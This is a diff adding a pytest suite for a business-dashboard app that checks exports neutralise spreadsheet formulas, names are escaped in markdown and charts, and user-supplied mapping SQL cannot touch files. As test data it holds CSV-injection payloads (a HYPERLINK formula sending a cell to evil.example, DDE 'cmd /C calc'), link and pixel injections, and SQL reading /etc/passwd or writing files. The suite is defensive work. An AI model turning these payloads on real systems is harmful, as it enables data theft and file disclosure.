@@ -1,0 +1,351 @@
+"""Hostile values in the data: exports that cannot run a formula, JSON any parser reads, report text
+shown as written."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+import sqlalchemy as sa
+from streamlit.testing.v1 import AppTest
+
+import cli
+from data.demo import write_demo
+from data.engine import make_readonly_engine
+from data.source import MappingError, check_single_select
+from kpi.customer_value import compute_clv
+from render.export import FORMULA_STARTS, table_bytes
+from render.text import chart_text, md
+from service.report import Section, _page
+from tests.conftest import APP
+
+#: OWASP's CSV-injection examples, and the ways a spreadsheet may still take a cell for a formula
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&B2,"Click me")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "=1+1",
+    "+1",
+    "-1",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _hostile_table() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "name": PAYLOADS,
+            "revenue": [-5.25] * len(PAYLOADS),  # a negative amount stays a number
+            "orders": list(range(len(PAYLOADS))),
+        }
+    )
+
+
+@pytest.mark.parametrize("lang", ["it", "en", None])
+def test_an_excel_export_holds_text_where_a_name_looks_like_a_formula(lang: str | None) -> None:
+    table = _hostile_table().rename(columns={"orders": "=SUM(A1:A9)"})
+    sheet = openpyxl.load_workbook(io.BytesIO(table_bytes(table, "xlsx", lang))).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
+    names = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in names] == PAYLOADS  # shown exactly, no apostrophe added
+    assert all(c.data_type == "s" and c.quotePrefix for c in names)  # and stays text when edited
+    header = sheet.cell(row=1, column=3)
+    assert header.value == "=SUM(A1:A9)" and header.data_type == "s"
+    amounts = [row[1].value for row in sheet.iter_rows(min_row=2)]
+    assert amounts == [-5.25] * len(PAYLOADS)
+
+
+@pytest.mark.parametrize("lang", ["it", "en"])
+def test_a_csv_export_quotes_what_would_start_a_formula(lang: str) -> None:
+    raw = table_bytes(_hostile_table(), "csv", lang).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";" if lang == "it" else ","))
+    names = [r[0] for r in rows[1:]]
+    assert names == ["'" + p for p in PAYLOADS]
+    assert not [n for n in names if n.startswith(FORMULA_STARTS)]
+    amounts = {r[1] for r in rows[1:]}
+    assert amounts == {"-5,25" if lang == "it" else "-5.25"}  # numbers are not quoted
+
+
+def test_control_characters_never_reach_a_spreadsheet() -> None:
+    table = pd.DataFrame({"name": ["Rossi\x00 & C.", "bell\x07", "ok"], "revenue": [1.0, 2.0, 3.0]})
+    text = table_bytes(table, "csv").decode()
+    assert "\x00" not in text and "\x07" not in text
+    assert "Rossi\ufffd & C." in text
+    sheet = openpyxl.load_workbook(io.BytesIO(table_bytes(table, "xlsx"))).active
+    assert sheet is not None
+    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == ["Rossi\ufffd & C.", "bell\ufffd", "ok"]
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """The demo with formula payloads for product and campaign names."""
+    path = tmp_path_factory.mktemp("hostile") / "hostile.sqlite"
+    url = f"sqlite:///{path}"
+    write_demo(url, customers=300, seed=3)
+    engine = sa.create_engine(url)
+    with engine.begin() as conn:
+        for i, product in enumerate(conn.execute(sa.text("SELECT product_id FROM products")).scalars()):
+            name = PAYLOADS[i % len(PAYLOADS)]
+            conn.execute(sa.text("UPDATE products SET name = :n WHERE product_id = :p"), {"n": name, "p": product})
+        conn.execute(sa.text("UPDATE campaigns SET name = :n"), {"n": PAYLOADS[0]})
+    engine.dispose()
+    return url
+
+
+def _cli(args: list[str], url: str, monkeypatch: pytest.MonkeyPatch) -> str:
+    monkeypatch.setenv("CRUSCOTTO_DB_URL", url)
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out):
+        assert cli.main(args) == 0
+    return out.getvalue()
+
+
+def test_the_upsell_list_from_the_cli_has_no_formula(
+    hostile_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "upsell.xlsx"
+    _cli(["upsell", "--out", str(target)], hostile_db, monkeypatch)
+    sheet = openpyxl.load_workbook(target).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value in PAYLOADS for c in cells)  # the hostile names are there, as text
+
+
+def _no_constants(name: str) -> Any:
+    raise ValueError(f"{name} is not JSON")
+
+
+def test_json_output_is_standard_json(hostile_db: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    for command in (["roi", "--json"], ["overview", "--json"], ["clv", "--json"]):
+        printed = _cli(command, hostile_db, monkeypatch)
+        json.loads(printed, parse_constant=_no_constants)  # NaN or Infinity would raise
+        assert "NaN" not in printed
+    roi = json.loads(_cli(["roi", "--json"], hostile_db, monkeypatch))
+    assert any(v is None for row in roi["campaigns"] for v in row.values())  # unknown ratios are null
+
+
+def test_report_text_shows_quotes_and_tags_as_written() -> None:
+    name = 'Fiera "Rimini" <b>2024</b> & co'
+    assert chart_text(name) == 'Fiera "Rimini" &lt;b&gt;2024&lt;/b&gt; &amp; co'
+    page = _page(Section(title=name, comment=name), name, [name], name, [(name, name)])
+    text = json.dumps(page.to_plotly_json(), default=str)
+    assert "&quot;" not in text and "<b>2024</b>" not in text
+    assert "&lt;b&gt;2024" in text
+
+
+# --- Names are shown as text: never markdown, HTML or a hover placeholder ------------------------
+
+NAMES = [
+    "![x](http://evil.example/pixel.png)",
+    "[Click me](http://evil.example)",
+    '<a href="http://evil.example">Click here</a>',
+    ":red[Danger] :material/warning:",
+    "$x^2$ **bold** _it_ `code` # Title",
+    "http://evil.example",
+    "%{customdata[0]} 50%",
+    "Rossi\u202eSpA",
+]
+_SPECIAL = set("\\`*_[]<>~$|&@")  # what starts something inline in a line of markdown
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_markdown_escapes_every_sign_it_could_read(name: str) -> None:
+    escaped = md(name)
+    i = 0
+    while i < len(escaped):
+        if escaped[i] == "\\":
+            assert escaped[i + 1] in _SPECIAL | {":"}, escaped
+            i += 2
+            continue
+        assert escaped[i] not in _SPECIAL, (escaped, escaped[i])
+        i += 1
+    assert "\u202e" not in escaped and "\u202e" not in chart_text(name)
+    assert "www." not in md("see www.evil.example")
+    # the colon that opens a directive, an emoji or an address is escaped; a colon in prose is not
+    assert md(":red[x] :material/warning: :tada: http://e.x a: b") == (
+        "\\:red\\[x\\] \\:material/warning: \\:tada: http\\://e.x a: b"
+    )
+    assert "\n" not in md("a\n# b")
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_chart_text_leaves_no_tag_and_no_placeholder(name: str) -> None:
+    text = chart_text(name)
+    assert "<" not in text and ">" not in text and "%{" not in text
+
+
+@pytest.fixture(scope="module")
+def hostile_names_db(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """The demo with a hostile segment name and hostile campaign names."""
+    path = tmp_path_factory.mktemp("names") / "names.sqlite"
+    url = f"sqlite:///{path}"
+    write_demo(url, customers=300, seed=4)
+    engine = sa.create_engine(url)
+    with engine.begin() as conn:
+        conn.execute(sa.text("UPDATE customers SET segment = :n WHERE segment = 'HoReCa'"), {"n": NAMES[0]})
+        ids = list(conn.execute(sa.text("SELECT campaign_id FROM campaigns")).scalars())
+        for i, campaign in enumerate(ids):
+            conn.execute(
+                sa.text("UPDATE campaigns SET name = :n WHERE campaign_id = :c"),
+                {"n": NAMES[(i + 1) % len(NAMES)] + f" {i}", "c": campaign},
+            )
+    engine.dispose()
+    return url
+
+
+def test_pages_show_hostile_names_as_text(
+    hostile_names_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    config = tmp_path / "cruscotto.toml"
+    config.write_text("")
+    monkeypatch.setenv("CRUSCOTTO_CONFIG", str(config))
+    monkeypatch.setenv("CRUSCOTTO_DB_URL", hostile_names_db)
+    for page in ("pages/panoramica.py", "pages/marketing.py", "pages/valore.py"):
+        at = AppTest.from_file(APP, default_timeout=90)
+        at.run()
+        if page != "pages/panoramica.py":
+            at.switch_page(page).run()
+        assert not at.exception, [e.value for e in at.exception]
+        shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
+        for table in at.table:
+            shown += [str(v) for v in table.value.to_numpy().ravel()]
+        for text in shown:
+            assert "](http://evil.example" not in text, text  # a link or an image would need it raw
+            assert "<a href" not in text
+        charts = json.dumps([json.loads(el.proto.spec) for el in at.get("plotly_chart")])
+        assert "<a href" not in charts and "%{customdata[0]} 50%" not in charts
+        if page == "pages/panoramica.py":
+            assert any(md(NAMES[0]) in str(v) for table in at.table for v in table.value.to_numpy().ravel())
+
+
+# --- Mapping SQL: one SELECT, parsed; no file reached from DuckDB ---------------------------------
+
+
+@pytest.mark.parametrize(
+    ("dialect", "sql", "code"),
+    [
+        ("duckdb", "SELECT E'\\'' ; COPY (SELECT 1) TO '/tmp/cruscotto_pwned.csv'; --'", "mapping.sql_many"),
+        ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "mapping.sql_files"),
+        ("duckdb", "SELECT read_text('/etc/passwd') AS t", "mapping.sql_files"),
+        ("duckdb", "SELECT * FROM glob('/etc/*')", "mapping.sql_files"),
+        ("duckdb", "SELECT * FROM '/etc/passwd'", "mapping.sql_files"),
+        ("duckdb", "COPY orders TO '/tmp/cruscotto_pwned.csv'", "mapping.sql_not_select"),
+        ("duckdb", "ATTACH '/tmp/other.db' AS other", "mapping.sql_not_select"),
+        ("duckdb", "INSTALL httpfs", "mapping.sql_not_select"),
+        ("postgresql", "SELECT pg_read_file('/etc/passwd') AS t", "mapping.sql_files"),
+        ("postgresql", "SELECT * FROM orders FOR UPDATE", "mapping.sql_writes"),
+        ("mysql", "SELECT LOAD_FILE('/etc/passwd') AS t", "mapping.sql_files"),
+        ("sqlite", "PRAGMA table_info(orders)", "mapping.sql_not_select"),
+        ("sqlite", "SELECT * FROM (", "mapping.sql_unreadable"),
+    ],
+)
+def test_mapping_sql_is_parsed_not_scanned(dialect: str, sql: str, code: str) -> None:
+    with pytest.raises(MappingError) as info:
+        check_single_select(sql, "entities.orders.sql", dialect)
+    assert info.value.code == code and info.value.key == "entities.orders.sql"
+
+
+@pytest.mark.parametrize("dialect", ["duckdb", "postgresql", "sqlite", "mysql"])
+def test_ordinary_words_in_a_select_are_fine(dialect: str) -> None:
+    sql = "SELECT order_id, replace(note, 'update', 'set') AS note, 'delete; drop' AS label FROM orders"
+    assert check_single_select(sql + ";", "k", dialect) == sql
+
+
+def test_duckdb_sources_reach_no_file(tmp_path: Path) -> None:
+    path = tmp_path / "shop.duckdb"
+    write_demo(f"duckdb:///{path}", customers=100, seed=1)
+    target = tmp_path / "pwned.csv"
+    engine = make_readonly_engine(f"duckdb:///{path}")
+    with engine.connect() as conn:
+        assert conn.execute(sa.text("SELECT count(*) FROM orders")).scalar() > 0
+    for statement in (
+        "SELECT * FROM read_csv('/etc/passwd')",
+        f"COPY (SELECT 1) TO '{target}'",
+        "SET enable_external_access = true",
+    ):
+        with engine.connect() as conn, pytest.raises(sa.exc.DBAPIError):
+            conn.execute(sa.text(statement)).fetchall()
+    assert not target.exists()
+    engine.dispose()
+
+
+# --- A customer's value is never NaN ------------------------------------------------------------
+
+
+def _rfm_with_an_extreme_customer() -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
+    """400 ordinary customers and one with 1,089 purchase days (99.9 % of the margin)."""
+    rng = np.random.default_rng(7)
+    n = 400
+    first = pd.Timestamp("2023-01-01") + pd.to_timedelta(rng.integers(0, 300, n), unit="D")
+    days = rng.integers(1, 8, n)
+    last = first + pd.to_timedelta(np.where(days > 1, rng.integers(30, 500, n), 0), unit="D")
+    value = rng.uniform(20, 200, n)
+    rfm = pd.DataFrame(
+        {
+            "customer_id": np.arange(n),
+            "segment": "A",
+            "region": "Nord",
+            "channel": "Web",
+            "first_purchase": first,
+            "last_purchase": last,
+            "purchase_days": days,
+            "total_value": value * days,
+            "first_value": value,
+        }
+    )
+    extreme = {
+        "customer_id": n,
+        "segment": "A",
+        "region": "Nord",
+        "channel": "Web",
+        "first_purchase": pd.Timestamp("2023-01-01"),
+        "last_purchase": pd.Timestamp("2025-12-24"),
+        "purchase_days": 1089,
+        "total_value": 1089 * 40_000.0,
+        "first_value": 40_000.0,
+    }
+    rfm = pd.concat([rfm, pd.DataFrame([extreme])], ignore_index=True)
+    margins = pd.DataFrame({"customer_id": rfm["customer_id"], "margin": rfm["total_value"]})
+    costs = pd.DataFrame(
+        {"customer_id": rfm["customer_id"], "tickets": 0, "service_cost": 0.0, "acquisition_cost": 0.0}
+    )
+    return rfm, margins, costs
+
+
+def test_an_extreme_customer_keeps_a_value_and_is_counted() -> None:
+    rfm, margins, costs = _rfm_with_an_extreme_customer()
+    result = compute_clv(rfm, margins, costs, as_of=date(2025, 12, 31))
+    assert result.predicted, result.notice
+    table = result.table.set_index("customer_id")
+    assert np.isfinite(table["total_clv"]).all() and np.isfinite(table["residual_clv"]).all()
+    extreme = table.loc[400]
+    assert extreme["total_clv"] >= extreme["historical_clv"] > 4e7  # never below what they brought
+    # the model's formulas overflow for them: valued on their history, and counted
+    assert result.unvalued == 1 and extreme["residual_clv"] == 0.0
+    top = table.sort_values("total_clv", ascending=False).index[0]
+    assert top == 400  # the most valuable customer stays in the most-valuable list
+
+
+def test_a_model_that_fails_for_another_reason_says_so() -> None:
+    rfm, margins, costs = _rfm_with_an_extreme_customer()
+    few = rfm.assign(purchase_days=1, total_value=rfm["first_value"], last_purchase=rfm["first_purchase"])
+    result = compute_clv(few, margins, costs, as_of=date(2025, 12, 31))
+    assert not result.predicted and result.reason == "few_repeat"
+    assert np.isfinite(result.table["total_clv"]).all()
